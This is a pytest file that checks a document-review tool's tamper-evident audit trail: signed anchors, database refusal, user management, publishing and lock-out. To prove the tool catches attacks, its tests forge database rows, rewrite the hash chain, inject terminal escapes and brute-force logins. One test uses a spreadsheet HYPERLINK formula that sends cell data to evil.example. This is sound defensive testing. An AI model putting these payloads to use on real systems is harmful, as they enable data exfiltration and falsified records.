"""A trail an auditor can trust (issue 22), from the command line and the database file: state
that only the chain can make, signed anchors outside the database, databases that are refused
rather than created, an archived copy checked on read-only media, a database of schema 1, users
over time, publish all or nothing, and texts that cannot lie on a screen or in a spreadsheet."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from factsheets.review import Refused, audit
from factsheets.review.auth import MAX_FAILURES, Locked, authenticate
from factsheets.review.store import Store

from . import review_support
from .review_support import USERS, raw, run_cli

builds, project = review_support.builds, review_support.project  # fixtures

EN, ZH = "513770.en.pdf", "513770.zh-CN.pdf"
OLD = Path(__file__).resolve().parent / "data" / "review-v1"


def sha(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def approve(project, *documents: str, checker: str = "cleo") -> None:
    paths = [str(project.out / d) for d in documents]
    assert project.run("submit", *paths, user="max").returncode == 0
    assert project.run("approve", *paths, user=checker).returncode == 0


def trail(project) -> list[dict]:
    return json.loads(project.run("audit", "export", "--format", "json").stdout)


# -- state from the chain ---------------------------------------------------------------------
def test_forged_inserts_are_named_by_verify_and_publish_refuses_them(project):
    """The three INSERTs of the issue: an approval with no trail row, by a checker the trail never added
    (whose password hash is copied from another), for a submission the trail never saw."""
    to = project.out.parent / "published"
    assert project.run("publish", str(project.out), "--to", str(to), user="cleo").returncode == 1  # nothing approved: an anchor, no copy
    digest = sha(project.out / EN)
    conn = raw(project.db)
    copied = conn.execute("SELECT password FROM users WHERE name = 'cleo'").fetchone()[0]
    conn.execute("INSERT INTO users (name, role, password, created) VALUES ('eve', 'checker', ?, '2026-01-02T00:00:00.000000Z')", (copied,))
    conn.execute("INSERT INTO submissions (document, sha256, maker, at) VALUES (?, ?, 'max', '2026-01-02T00:00:01.000000Z')", (EN, digest))
    conn.execute("INSERT INTO decisions (document, sha256, part, decision, checker, at) "
                 "VALUES (?, ?, 'document', 'approved', 'eve', '2026-01-02T00:00:02.000000Z')", (EN, digest))
    for args in (("audit", "verify"), ("audit", "verify", "--against", str(to / "publication.json"))):
        result = project.run(*args)
        assert result.returncode == 1, result.stdout
        assert "users: eve (checker): no row of the trail adds this user" in result.stderr
        assert f"submissions: {EN} ({digest[:12]}) submitted by max at 2026-01-02T00:00:01.000000Z: no row of the trail records it" in result.stderr
        assert f"decisions: {EN} ({digest[:12]}) document approved by eve at 2026-01-02T00:00:02.000000Z: no row of the trail records it" in result.stderr
    published = project.run("publish", str(project.out), "--to", str(to), user="cleo")
    assert published.returncode == 2 and "the audit trail does not verify" in published.stderr and not (to / EN).exists()
    eve = project.run("approve", str(project.out / ZH), user="eve", password=USERS["cleo"][1])  # the copied hash logs nobody in
    assert eve.returncode == 1 and "does not agree with the audit trail for eve" in eve.stderr


def test_a_role_the_trail_never_granted_is_named_and_logs_nobody_in(project):
    raw(project.db).execute("UPDATE users SET role = 'checker' WHERE name = 'max'")
    result = project.run("audit", "verify")
    assert result.returncode == 1 and "users: max: the table says checker, the trail granted maker" in result.stderr
    assert project.run("submit", str(project.out / EN), user="max").returncode == 1


def test_a_password_hash_swapped_in_the_table_is_named(project):
    conn = raw(project.db)
    conn.execute("UPDATE users SET password = (SELECT password FROM users WHERE name = 'max') WHERE name = 'cleo'")
    result = project.run("audit", "verify")
    assert result.returncode == 1 and "users: cleo: the password hash is not the one the trail recorded" in result.stderr
    assert project.run("approve", str(project.out / EN), user="cleo", password=USERS["max"][1]).returncode == 1


def test_a_trail_row_that_breaks_the_rules_of_its_time_is_named(project):
    """An insider who appends a well-chained row (the hashes computed as the code does) still has to
    name real users in their real roles: a maker's approval of their own submission is named."""
    assert project.run("submit", str(project.out / EN), user="max").returncode == 0
    digest = sha(project.out / EN)
    conn = raw(project.db)
    conn.execute("BEGIN IMMEDIATE")
    row = audit.append(conn, "max", "approve", document=EN, sha256=digest, detail={"parts": ["document"]})
    conn.execute("INSERT INTO decisions (document, sha256, part, decision, checker, at) VALUES (?, ?, 'document', 'approved', 'max', ?)",
                 (EN, digest, row["at"]))
    conn.execute("COMMIT")
    result = project.run("audit", "verify")
    assert result.returncode == 1 and f"row {row['seq']}: max approve {EN}: max was not a checker" in result.stderr


# -- anchors outside the database -------------------------------------------------------------
@pytest.fixture
def house_key(project) -> Path:
    """The house's key pair: the private key in a file outside the project, the public key in factsheets.toml."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    key = Ed25519PrivateKey.generate()
    path = project.out.parent / "keys" / "house.key"
    path.parent.mkdir()
    path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    public = key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo).decode()
    (project.out.parent / "factsheets.toml").write_text(f'[review]\npublic_key = """\n{public}"""\n', encoding="utf-8")
    return path


def other_key(folder: Path) -> Path:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    path = folder / "other.key"
    path.write_bytes(Ed25519PrivateKey.generate().private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                                serialization.NoEncryption()))
    return path


def test_publish_signs_the_head_and_verify_against_checks_the_signature(project, house_key):
    approve(project, EN)
    to = project.out.parent / "published"
    unsigned = project.run("publish", str(project.out), "--to", str(to), user="cleo")
    assert unsigned.returncode == 2 and "--signing-key" in unsigned.stderr and not to.exists()
    anonymous = project.run("publish", str(project.out), "--to", str(to), "--signing-key", str(house_key))
    assert anonymous.returncode == 2 and "Missing option '--as'" in anonymous.stderr and not to.exists()
    published = project.run("publish", str(project.out), "--to", str(to), "--signing-key", str(house_key), user="cleo")
    assert published.returncode == 1 and f"published {EN}" in published.stdout and ", signed" in published.stdout
    manifest = json.loads((to / "publication.json").read_text(encoding="utf-8"))
    last = trail(project)[-1]
    assert (last["actor"], last["action"], last["document"]) == ("cleo", "publish", EN) and manifest["by"] == "cleo"
    assert (manifest["audit_head"]["row"], manifest["audit_head"]["hash"]) == (last["seq"], last["hash"])
    assert len(base64.b64decode(manifest["audit_head"]["signature"])) == 64  # Ed25519
    good = project.run("audit", "verify", "--against", str(to / "publication.json"))
    assert good.returncode == 0 and "signed by the house's key" in good.stdout
    manifest["documents"][0]["sha256"] = "0" * 64  # the list vouched for, edited
    (to / "forged.json").write_text(json.dumps(manifest), encoding="utf-8")
    forged = project.run("audit", "verify", "--against", str(to / "forged.json"))
    assert forged.returncode == 1 and "its list of documents is not the list that was signed" in forged.stderr
    stripped = {"audit_head": {"row": last["seq"], "hash": last["hash"]}}  # an unsigned head, where the house signs
    (to / "stripped.json").write_text(json.dumps(stripped), encoding="utf-8")
    assert "it is not signed" in project.run("audit", "verify", "--against", str(to / "stripped.json")).stderr
    wrong = project.run("publish", str(project.out), "--to", str(to), "--signing-key", str(other_key(house_key.parent)), user="cleo")
    assert wrong.returncode == 2 and "not the key whose public half factsheets.toml names" in wrong.stderr


def rewrite(db: Path, comment: str, keep: int | None = None) -> None:
    """What an insider with the file does: the approval's comment changed in the trail and its table,
    every hash after it recomputed (and with `keep`, the rows after it dropped): the chain and the
    state verify again."""
    from factsheets.review.audit import COLUMNS, row_hash

    conn = raw(db)
    conn.execute("UPDATE decisions SET comment = ?", (comment,))
    if keep is not None:
        conn.execute("DELETE FROM audit WHERE seq > ?", (keep,))
    rows = [dict(zip(COLUMNS, r)) for r in conn.execute(f"SELECT {', '.join(COLUMNS)} FROM audit ORDER BY seq")]
    prev = audit.GENESIS
    for row in rows:
        if row["action"] == "approve":
            row["comment"] = comment
        row["prev"], row["hash"] = prev, row_hash(row, prev)
        conn.execute("UPDATE audit SET comment = ?, prev = ?, hash = ? WHERE seq = ?", (row["comment"], row["prev"], row["hash"], row["seq"]))
        prev = row["hash"]
    conn.execute("UPDATE meta SET value = ? WHERE key = 'audit_head'", (f"{rows[-1]['seq']} {prev}",))


def test_a_trail_rewritten_or_cut_back_fails_against_an_earlier_anchor(project, house_key):
    approve(project, EN)
    assert project.run("audit", "anchor").returncode == 2  # the house has a key: an unsigned head would prove nothing
    anchored = project.run("audit", "anchor", "--signing-key", str(house_key))
    assert anchored.returncode == 0, anchored.stderr
    head = json.loads(anchored.stdout)
    assert head["row"] == len(trail(project)) and len(head["signature"]) > 80
    kept = project.out.parent / "anchor.json"  # what the house kept in a ticket
    kept.write_text(anchored.stdout, encoding="utf-8")
    approve(project, ZH, checker="chen")
    assert project.run("audit", "verify", "--against", str(kept)).returncode == 0
    backup = project.out.parent / "backup.db"
    shutil.copy(project.db, backup)

    rewrite(project.db, "rubber-stamped")
    assert project.run("audit", "verify").returncode == 0  # the chain and the state hold: only the anchor tells
    rewritten = project.run("audit", "verify", "--against", str(kept))
    assert rewritten.returncode == 1 and "differs from the row recorded at publication" in rewritten.stderr

    shutil.copy(backup, project.db)
    conn = raw(project.db)
    conn.execute("DELETE FROM decisions")
    conn.execute("DELETE FROM submissions")
    rewrite(project.db, "", keep=len(USERS))  # cut back to the users, before the anchored row
    assert project.run("audit", "verify").returncode == 0
    truncated = project.run("audit", "verify", "--against", str(kept))
    assert truncated.returncode == 1 and "no longer in the trail" in truncated.stderr

    head["hash"] = trail(project)[-1]["hash"]  # a head made up to fit, without the house's key
    head["row"] = len(trail(project))
    kept.write_text(json.dumps(head), encoding="utf-8")
    made_up = project.run("audit", "verify", "--against", str(kept))
    assert made_up.returncode == 1 and "its signature does not hold" in made_up.stderr


# -- refuse, don't create ---------------------------------------------------------------------
def test_a_zero_byte_a_foreign_or_a_missing_database_is_an_error_naming_it(project, tmp_path):
    empty = tmp_path / "empty.db"
    empty.touch()
    for args in (("audit", "verify"), ("audit", "export"), ("users", "list"), ("submit", str(project.out / EN), "--as", "max")):
        result = run_cli(*args, "--db", str(empty), password=USERS["max"][1], cwd=tmp_path)
        assert result.returncode == 2 and f"{empty}: an empty file (0 bytes), not a review database" in result.stderr, args
    assert empty.stat().st_size == 0  # no schema written into it
    typo = tmp_path / "reveiw.db"
    for args in (("submit", str(project.out / EN), "--as", "max", "--password-stdin"), ("audit", "verify"),
                 ("review", str(project.out))):
        result = run_cli(*args, "--db", str(typo), password=USERS["max"][1], cwd=tmp_path)
        assert result.returncode == 2 and f"{typo}: no such review database" in result.stderr, args
        assert "wrong user name or password" not in result.stderr
    assert not typo.exists()
    foreign = tmp_path / "foreign.db"
    sqlite3.connect(foreign).execute("CREATE TABLE notes (text TEXT)")
    result = run_cli("audit", "verify", "--db", str(foreign), cwd=tmp_path)
    assert result.returncode == 2 and "not a review database (it has none of the review's tables)" in result.stderr


def run_on_read_only_media(folder: Path, *args: str) -> subprocess.CompletedProcess:
    """`factsheets ARGS` with `folder` mounted read-only (a mount namespace of its own, bind-mounted
    read-only; or, for a user other than root, the folder and its files made read-only)."""
    command = [sys.executable, "-m", "factsheets", *args]
    if os.geteuid() != 0:
        modes = {p: p.stat().st_mode for p in [folder, *folder.iterdir()]}
        for path in modes:
            path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            return subprocess.run(command, capture_output=True, text=True, timeout=120)
        finally:
            for path, mode in modes.items():
                path.chmod(mode)
    unshare = shutil.which("unshare")
    if unshare is None:
        pytest.skip("unshare(1) is needed to mount a folder read-only")
    script = 'mount --bind "$0" "$0" && mount -o remount,bind,ro "$0" && touch "$0/.probe" 2>/dev/null && exit 99; exec "$@"'
    result = subprocess.run([unshare, "--mount", "--propagation", "private", "sh", "-c", script, str(folder), *command],
                            capture_output=True, text=True, timeout=120)
    if result.returncode == 99 or "mount:" in result.stderr or "unshare:" in result.stderr:
        pytest.skip(f"cannot mount a folder read-only here: {result.stderr.strip()[:200]}")
    return result


def test_an_archived_copy_on_read_only_media_is_checked(project, tmp_path):
    approve(project, EN)
    to = tmp_path / "published"
    project.run("publish", str(project.out), "--to", str(to), user="cleo")
    Store(project.db).connection().execute("PRAGMA wal_checkpoint(TRUNCATE)")
    archive = tmp_path / "archive"
    archive.mkdir()
    shutil.copy(project.db, archive / "review.db")  # the database alone, as it is archived: no -wal, no -shm
    db = str(archive / "review.db")
    verified = run_on_read_only_media(archive, "audit", "verify", "--db", db, "--against", str(to / "publication.json"))
    assert verified.returncode == 0 and "audit trail intact" in verified.stdout, verified.stderr
    listed = run_on_read_only_media(archive, "users", "list", "--db", db)
    assert listed.returncode == 0 and [line.split("\t")[0] for line in listed.stdout.splitlines()] == sorted(USERS)
    exported = run_on_read_only_media(archive, "audit", "export", "--format", "json", "--db", db)
    assert exported.returncode == 0 and json.loads(exported.stdout)[-1]["action"] == "publish"
    assert sorted(p.name for p in archive.iterdir()) == ["review.db"]  # nothing written beside it
    (archive / "review.db-wal").write_bytes(b"\0" * 4096)  # changes not yet in the database: cannot be read in place
    unreadable = run_on_read_only_media(archive, "audit", "verify", "--db", db)
    assert unreadable.returncode == 2 and "copy both files to a writable folder" in unreadable.stderr


# -- a database written before this version ------------------------------------------------------
def test_a_trail_of_schema_1_verifies_and_is_upgraded_by_its_first_write(tmp_path):
    shutil.copytree(OLD, tmp_path / "old")
    db, out = tmp_path / "old" / "review.db", tmp_path / "old" / "out"
    verified = run_cli("audit", "verify", "--db", str(db), "--against", str(db.parent / "publication.json"), cwd=tmp_path)
    assert verified.returncode == 0, verified.stderr
    assert "audit trail intact: 11 rows" in verified.stdout and "4 users, 3 submissions, 2 decisions" in verified.stdout
    assert "binds no password hash for ada, chen, cleo, max" in verified.stdout
    assert [line.split("\t")[:2] for line in run_cli("users", "list", "--db", str(db), cwd=tmp_path).stdout.splitlines()] == [
        ["ada", "admin"], ["chen", "checker"], ["cleo", "checker"], ["max", "maker"]]
    schema = lambda: sqlite3.connect(db).execute("SELECT value FROM meta WHERE key = 'schema'").fetchone()[0]  # noqa: E731
    assert schema() == "1"  # reading changes nothing
    approved = run_cli("approve", str(out / "C.en.pdf"), "--db", str(db), "--as", "chen", "--password-stdin",
                       password="checker-pass-2", cwd=tmp_path)
    assert approved.returncode == 0, approved.stderr
    assert schema() == "2"
    reset = run_cli("users", "reset-password", "cleo", "--as", "ada", "--password-stdin", "--db", str(db),
                    password="admin-pass-1\nchecker-pass-9", cwd=tmp_path)
    assert reset.returncode == 0, reset.stderr
    again = run_cli("audit", "verify", "--db", str(db), cwd=tmp_path)
    assert again.returncode == 0 and "binds no password hash for ada, chen, max" in again.stdout
    published = run_cli("publish", str(out), "--to", str(tmp_path / "pub"), "--db", str(db), "--as", "chen", "--password-stdin",
                        password="checker-pass-2", cwd=tmp_path)
    assert "published A.en.pdf" in published.stdout and "published C.en.pdf" in published.stdout


# -- users over time ------------------------------------------------------------------------------
def test_an_admin_disables_changes_roles_and_resets_passwords(project):
    admin = USERS["ada"][1]
    pdf = str(project.out / EN)
    assert project.run("submit", pdf, user="max").returncode == 0
    assert project.run("users", "disable", "cleo", user="ada").returncode == 0
    disabled = project.run("approve", pdf, user="cleo")
    assert disabled.returncode == 1 and "cleo is disabled" in disabled.stderr
    by_maker = project.run("users", "disable", "chen", user="max")
    assert by_maker.returncode == 1 and "only an admin manages users" in by_maker.stderr
    assert project.run("users", "role", "chen", "maker", user="ada").returncode == 0
    demoted = project.run("approve", pdf, user="chen")
    assert demoted.returncode == 1 and "chen is a maker: only a checker may approve" in demoted.stderr
    assert project.run("users", "reset-password", "max", user="ada", password=f"{admin}\nmaker-pass-new").returncode == 0
    assert project.run("submit", str(project.out / ZH), user="max").returncode == 1  # the old password
    assert project.run("submit", str(project.out / ZH), user="max", password="maker-pass-new").returncode == 0
    last = project.run("users", "disable", "ada", user="ada")
    assert last.returncode == 1 and "ada is the last enabled admin" in last.stderr
    assert project.run("users", "enable", "cleo", user="ada").returncode == 0
    assert project.run("approve", pdf, user="cleo").returncode == 0
    listed = {line.split("\t")[0]: line.split("\t")[1::2] for line in project.run("users", "list").stdout.splitlines()}
    assert listed["chen"] == ["maker", "enabled"] and listed["cleo"] == ["checker", "enabled"]
    changes = [(r["actor"], r["action"], r["detail"].get("user")) for r in trail(project) if r["action"].startswith(("user-", "password"))]
    assert changes[len(USERS):] == [("ada", "user-disabled", "cleo"), ("ada", "user-role", "chen"), ("ada", "password-reset", "max"),
                                    ("ada", "user-enabled", "cleo")]
    assert project.run("audit", "verify").returncode == 0


def test_publish_as_a_user_is_recorded_as_that_user(project):
    approve(project, EN)
    to = project.out.parent / "published"
    published = project.run("publish", str(project.out), "--to", str(to), user="chen")
    assert f"published {EN}" in published.stdout
    rows = trail(project)
    assert [(r["actor"], r["action"]) for r in rows[-2:]] == [("chen", "login"), ("chen", "publish")]
    before = trail(project)
    anonymous = project.run("publish", str(project.out), "--to", str(to))
    assert anonymous.returncode == 2 and "Missing option '--as'" in anonymous.stderr  # no publishing without a log-in
    assert trail(project) == before


def test_approve_pins_the_bytes_the_checker_looked_at(project):
    pdf = project.out / EN
    assert project.run("submit", str(pdf), user="max").returncode == 0
    looked_at = sha(pdf)
    project.rebuild()  # the file changes after the checker looked at it
    assert project.run("submit", str(pdf), user="max").returncode == 0
    pinned = project.run("approve", str(pdf), "--sha256", looked_at, user="cleo")
    assert pinned.returncode == 1 and f"not the bytes pinned with --sha256 ({looked_at[:12]})" in pinned.stderr
    assert not [r for r in trail(project) if r["action"] == "approve"]
    short = project.run("approve", str(pdf), "--sha256", looked_at[:12], user="cleo")
    assert short.returncode == 2 and "64 hexadecimal digits" in short.stderr
    assert project.run("approve", str(pdf), "--sha256", sha(pdf).upper(), user="cleo").returncode == 0


# -- publish: all or nothing, and nothing without a record ----------------------------------------
def test_a_symbolic_link_among_the_targets_publishes_nothing(project, tmp_path):
    approve(project, EN, ZH)
    to = tmp_path / "published"
    to.mkdir()
    elsewhere = tmp_path / "elsewhere.pdf"
    (to / ZH).symlink_to(elsewhere)  # the second target leads out of the folder
    result = project.run("publish", str(project.out), "--to", str(to), user="cleo")
    assert result.returncode == 2 and "a symbolic link among the publication's targets" in result.stderr
    assert sorted(p.name for p in to.iterdir()) == [ZH] and not elsewhere.exists()  # the first document was not copied either
    assert not [r for r in trail(project) if r["action"] == "publish"]
    (to / ZH).unlink()
    assert project.run("publish", str(project.out), "--to", str(to), user="cleo").returncode == 0
    assert sorted(p.name for p in to.iterdir()) == sorted([EN, ZH, "publication.json"])
    assert [r["document"] for r in trail(project) if r["action"] == "publish"] == [EN, ZH]


# -- names and texts that cannot lie ------------------------------------------------------------
def test_a_user_name_with_a_trailing_newline_is_refused(project):
    added = project.run("users", "add", "mx\n", "--role", "maker", user="ada", password=f"{USERS['ada'][1]}\nmaker-pass-2")
    assert added.returncode == 2 and "user name 'mx\\n'" in added.stderr
    assert "mx" not in project.run("users", "list").stdout
    login = run_cli("submit", str(project.out / EN), "--db", str(project.db), "--as", "max\n", "--password-stdin",
                    password=USERS["max"][1], cwd=project.out.parent)
    assert login.returncode == 2 and "not a user name" in login.stderr


def test_terminal_escapes_in_a_comment_never_reach_the_terminal(project):
    pdf = str(project.out / ZH)
    assert project.run("submit", pdf, user="max").returncode == 0
    comment = "\x1b]0;all approved\x07wrong date\npublished 513770.zh-CN.pdf, approved by cleo\u202e"
    assert project.run("reject", pdf, "--comment", comment, user="cleo").returncode == 0
    result = project.run("publish", str(project.out), "--to", str(project.out.parent / "published"), user="cleo")
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\u202e" not in result.stdout
    assert "\\x1b]0;all approved\\x07wrong date\\npublished 513770.zh-CN.pdf" in result.stdout
    assert not [line for line in result.stdout.splitlines() if line.startswith("published")]


def test_csv_export_neutralises_what_a_spreadsheet_would_run(project):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    tried = run_cli("submit", str(project.out / EN), "--db", str(project.db), "--as", formula, "--password-stdin",
                    password="guess-guess", cwd=project.out.parent)
    assert tried.returncode == 2  # not a user name: nothing read, nothing written
    assert project.run("submit", str(project.out / EN), "--comment", "+1 from the desk", user="max").returncode == 0
    assert project.run("approve", str(project.out / EN), "--comment", formula, user="cleo").returncode == 0
    cells = [cell for row in csv.reader(io.StringIO(project.run("audit", "export", "--format", "csv").stdout)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert "'" + formula in cells and "'+1 from the desk" in cells
    assert trail(project)[-1]["comment"] == formula  # JSON keeps the value as it is


# -- the lock-out from the command line ------------------------------------------------------------
def test_thirty_parallel_guesses_check_five_passwords(project):
    """Each thread has its own connection, as separate processes would: the count and the check are
    one transaction, so no more than MAX_FAILURES guesses get their password checked."""
    barrier = threading.Barrier(30)
    outcomes: list[str] = []

    def guess(i: int) -> None:
        store = Store(project.db)
        barrier.wait()
        try:
            authenticate(store, "chen", f"guess-number-{i}", via="cli")
            outcomes.append("in")
        except Locked:
            outcomes.append("locked")
        except Refused:
            outcomes.append("wrong")
        finally:
            store.close()

    threads = [threading.Thread(target=guess, args=(i,)) for i in range(30)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert sorted(outcomes) == ["locked"] * (30 - MAX_FAILURES) + ["wrong"] * MAX_FAILURES
    with pytest.raises(Locked):
        authenticate(Store(project.db), "chen", USERS["chen"][1], via="cli")
    failures = [r["detail"]["reason"] for r in trail(project) if r["action"] == "login-failed"]
    assert sorted(failures) == ["locked", "password"]  # the first failure, the first refusal: 2 rows for 31 attempts


def test_a_window_of_failures_ends_in_one_summary_row_with_its_counts(project):
    import datetime as dt

    from factsheets.review import lockout

    store = Store(project.db)
    start = dt.datetime(2026, 3, 2, 9, 0, 5, tzinfo=dt.timezone.utc)
    with store.transaction() as conn:
        for i, client in enumerate(("127.0.0.1", "127.0.0.1", "127.0.0.9", "127.0.0.1", "127.0.0.9", "127.0.0.1", "127.0.0.1")):
            attempt = lockout.reserve(conn, "cleo", client, "web", known=True, now=start + dt.timedelta(seconds=i))
            if attempt.locked_until is None:
                lockout.settle(conn, attempt, "password")
        assert attempt.locked_until == dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.timezone.utc)  # five in this window
        lockout.reserve(conn, "chen", "127.0.0.1", "web", known=True, now=start + dt.timedelta(minutes=16))  # the next window
    rows = [(r["actor"], r["detail"]) for r in trail(project) if r["action"] == "login-failed"]
    assert [(actor, detail["reason"]) for actor, detail in rows] == [("cleo", "password"), ("cleo", "locked"), ("cleo", "summary")]
    summary = rows[-1][1]
    assert (summary["failures"], summary["refused"], summary["window"]) == (5, 2, "2026-03-02T09:00:00.000000Z")
    assert sorted(summary["clients"]) == ["127.0.0.1", "127.0.0.9"]
    with store.transaction() as conn:  # two windows on, the counts are gone
        lockout.reserve(conn, "chen", "127.0.0.1", "web", known=True, now=start + dt.timedelta(minutes=31))
        assert conn.execute("SELECT count(*) FROM login_failures WHERE name = 'cleo'").fetchone()[0] == 0
